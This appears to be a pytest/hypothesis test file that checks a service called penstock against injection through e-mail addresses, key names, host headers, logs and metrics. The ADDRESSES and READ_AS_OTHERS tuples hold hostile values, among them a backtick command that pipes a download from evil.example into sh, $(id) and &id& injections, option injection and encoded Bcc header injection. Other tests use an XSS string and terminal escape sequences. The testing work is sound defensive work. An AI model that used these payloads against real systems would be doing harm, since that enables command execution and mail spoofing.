"""People who are called what a shell, a spreadsheet, a terminal or a browser would obey, in every place that names them."""

import email
import html
import logging
import re
import secrets
import shlex
import sys
from email.policy import default

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from prometheus_client.core import CounterMetricFamily
from prometheus_client.exposition import generate_latest
from prometheus_client.parser import text_string_to_metric_families
from prometheus_client.registry import Collector, CollectorRegistry

from penstock.domain.accounts import accounts
from penstock.domain.accounts.accounts import BadEmail, parse_email
from penstock.domain.keys.management import BadKeyWish, KeyWish, create_key
from penstock.domain.mail import messages, outbox
from penstock.operations.logs import JsonLines, Lines
from penstock.operations.mail_sender import NotSent, compose_message
from penstock.operations.metrics import gathered
from penstock.site.snippets import first_commands, first_embedding
from tests.commands.conftest import Call, call, data
from tests.core.test_quoting import HOSTILE, anything, obeyed, whole
from tests.site.page_reader import PASSWORD, Hotel

__all__ = ["call", "data"]

ADDRESSES = (
    "`curl${IFS}evil.example/x|sh`@evil.example",
    "x&id&@evil.example",
    "--admin@evil.example",
    "-x@evil.example",
    "'$(id)'@evil.example".replace("(", "{").replace(")", "}"),
    "=1+1|x!a@evil.example",
)
READ_AS_OTHERS = (
    "=?utf-8?q?victim=40x.example=2Cy?=@evil.example",
    "=?utf-8?q?a=0d=0aBcc:z=40z.example?=@evil.example".replace(":", "=3a"),
)
"""Addresses that a mail's header would read as somebody else's."""
LOCAL = "abcXYZ019!#$%&'*+/=?^_`{|}~-"


@given(
    st.sampled_from(ADDRESSES + READ_AS_OTHERS)
    | st.text(LOCAL, min_size=1, max_size=64).map("{}@evil.example".format)
)
def test_the_command_in_a_mail_is_one_command_for_one_account(address: str) -> None:
    mail = messages.plan_asked("Acme", "boss@example.com", address, "pro")
    words = shlex.split(mail.paragraphs[-1])
    assert words[:3] == ["penstock", "user", "set"]
    assert words[3:] in (["--email", address, "--plan", "pro"], [f"--email={address}", "--plan", "pro"])
    written = compose_message(mail, "Acme <no-reply@acme.example>", "eml_1", 0.0)
    read = email.message_from_bytes(bytes(written), policy=default)
    assert [found.addr_spec for found in read["To"].addresses] == ["boss@example.com"]
    assert len(read["Subject"].splitlines()) == 1
    assert {name.lower() for name in read} == {
        "from", "to", "subject", "date", "message-id", "auto-submitted", "mime-version", "content-type",
    }  # fmt: skip
    page = read.get_body(("html",))
    assert page is not None
    assert html.escape(mail.paragraphs[-1]) in page.get_content()


@given(
    st.sampled_from(ADDRESSES + READ_AS_OTHERS)
    | st.text(LOCAL, min_size=1, max_size=64).map("{}@evil.example".format)
)
def test_a_mail_goes_to_its_recipient_or_to_nobody(address: str) -> None:
    mail = messages.verification("Acme", address, "123456")
    try:
        written = compose_message(mail, "Acme <no-reply@acme.example>", "eml_1", 0.0)
        read = email.message_from_bytes(bytes(written), policy=default)
    except NotSent:
        read = None
    assert read is not None or "=?" in address, "others have nothing that reads as another address"
    assert read is None or [found.addr_spec for found in read["To"].addresses] == [address]


async def test_an_address_that_no_mail_goes_to_is_refused_wherever_it_is_given(hotel: Hotel) -> None:
    owner = await hotel.reader().join("ann@example.com")
    sent = len(hotel.mailbox.all())
    for bad in READ_AS_OTHERS:
        given = {
            "/signup": {"email": bad, "password": PASSWORD},
            "/forgot": {"email": bad},
            "/settings/email": {"email": bad, "current": PASSWORD},
        }
        for path, fields in given.items():
            answer = await (owner if "settings" in path else hotel.reader()).post(path, **fields)
            assert answer.status_code == 400, path
            assert "Mail cannot be sent to an e-mail address that holds =?" in answer.text, path
    await hotel.posted()
    assert len(hotel.mailbox.all()) == sent


async def test_a_mail_that_cannot_be_written_holds_up_no_other(hotel: Hotel) -> None:
    """One that was queued before such addresses were refused."""
    store = hotel.house.store
    async with store.database.transaction() as conn:
        mail = messages.verification("Acme", READ_AS_OTHERS[0], "123456")
        await outbox.queue(conn, store.secrets_file, mail, now=0, entropy=secrets.token_bytes)
    await hotel.reader().join("ann@example.com")
    async with hotel.house.store.database.connect() as conn:
        assert not await outbox.any_due(conn, now=10**15), "it is not tried for ever"


@pytest.mark.parametrize("bad", READ_AS_OTHERS)
def test_the_command_line_refuses_an_address_that_no_mail_goes_to(call: Call, bad: str) -> None:
    made = call("user", "create", f"--email={bad}")
    assert made.code != 0
    assert "Mail cannot be sent to an e-mail address that holds =?" in made.err


def test_the_command_line_prints_what_can_be_pasted_and_obeys_nothing(call: Call) -> None:
    for number, address in enumerate(ADDRESSES):
        made = call("user", "create", f"--email={address}")
        assert made.code == 0, made.err
        hint = made.out.splitlines()[-1].partition(": ")[2]
        changed = call(*shlex.split(hint)[1:])
        assert (changed.code, changed.out.partition(": ")[0]) == (0, address), number
    for name in HOSTILE:
        if name.isprintable() and name:
            assert call("key", "create", f"--email={ADDRESSES[0]}", f"--name={name}").code == 0
    assert ADDRESSES[0] in call("user", "list").out
    assert not obeyed(call("key", "list", f"--email={ADDRESSES[0]}").out.replace("\n", ""))
    wrong = call("key", "revoke", f"--email={ADDRESSES[0]}\x1b[2J", "--name=\u202e")
    assert wrong.code != 0
    assert not obeyed(wrong.err.replace("\n", ""))
    strange = call("user", "\x1b]0;x\x07")
    assert strange.code == 2
    assert not obeyed(strange.err.replace("\n", ""))


async def test_names_of_keys_are_printed_or_refused(hotel: Hotel) -> None:
    await hotel.reader().join("ann@example.com")
    for name in HOSTILE:
        async with hotel.house.store.database.transaction() as conn:
            user = await accounts.user_by_email(conn, "ann@example.com")
            making = create_key(
                conn, hotel.house.store.secrets_file, user.id, KeyWish(name), now=1, entropy=bytes, keep=False
            )
            if obeyed(name) or not name:
                with pytest.raises(BadKeyWish):
                    await making
            else:
                making.close()


async def test_pages_show_names_and_hold_commands_of_one_line(hotel: Hotel) -> None:
    address = ADDRESSES[1]
    reader = await hotel.reader().join(address)
    for name in ("<script>alert(1)</script>", "$(id)", "'\"><b>"):
        made = await reader.post("/keys", name=name)
        assert made.status_code in {200, 303}, made.text
    for path in ("/keys", "/settings", "/dashboard", "/requests", "/plan", "/slots", "/playground"):
        text = (await reader.get(path)).text
        assert "<script>alert" not in text
        assert "<b>" not in text
        assert address not in text, "an ampersand is written as a reference"
    strange = "$(id)'&;x.example"
    for path in ("/", "/docs/quickstart", "/llms.txt", "/openapi.json", "/models/claude-haiku-4.5"):
        answer = await hotel.reader().get(path, headers={"host": strange})
        assert "$(id)" not in answer.text, path
        assert answer.status_code in {200, 404}


@given(anything.filter(whole), anything.filter(whole))
def test_snippets_are_one_command(host: str, model: str) -> None:
    for samples in (first_commands, first_embedding):
        by_name = dict(samples(f"https://{host}/api/v1", "sk-ps-X", model))
        if not (host + model).isprintable():
            continue
        words = shlex.split(by_name["curl"].replace("\\\n", ""))
        assert words[:2] == ["curl", words[1]]
        assert words[1].startswith(f"https://{host}/api/v1/")
        assert msgspec.json.decode(words[-1])["model"] == model
        compile(by_name["Python"], "snippet", "exec")


@given(anything)
def test_a_line_of_the_log_is_one_line(text: str) -> None:
    try:
        raise ValueError(text)
    except ValueError:
        trace = sys.exc_info()
    record = logging.LogRecord("penstock.x", logging.WARNING, "f.py", 1, "said %s", (text,), trace)
    record.code = text
    first, *below = Lines().format(record).split("\n")
    assert all(line.startswith("  ") and not obeyed(line) for line in below)
    assert not obeyed(first)
    line = JsonLines().format(record)
    assert not obeyed(line)
    line.encode()
    assert msgspec.json.decode(line)["logger"] == "penstock.x"


class _One(Collector):
    def __init__(self, label: str) -> None:
        self._label = label

    def collect(self) -> list[CounterMetricFamily]:
        family = CounterMetricFamily("penstock_tokens", "Tokens.", labels=("model",))
        family.add_metric((self._label,), 1)
        return [family]


@given(anything.filter(whole))
def test_a_label_of_a_metric_is_one_label(text: str) -> None:
    registry = CollectorRegistry()
    registry.register(_One(text))
    told = gathered({"1": generate_latest(registry), "2": generate_latest(registry)})
    (family,) = text_string_to_metric_families(told.decode())
    assert {sample.labels["model"] for sample in family.samples} == {text}
    assert {sample.labels["worker"] for sample in family.samples} == {"1", "2"}


@pytest.mark.parametrize("text", HOSTILE)
def test_an_address_is_ascii_and_printed(text: str) -> None:
    try:
        address = parse_email(f"{text}@evil.example")
    except BadEmail:
        return
    assert re.fullmatch(r"[!-~]+", address)
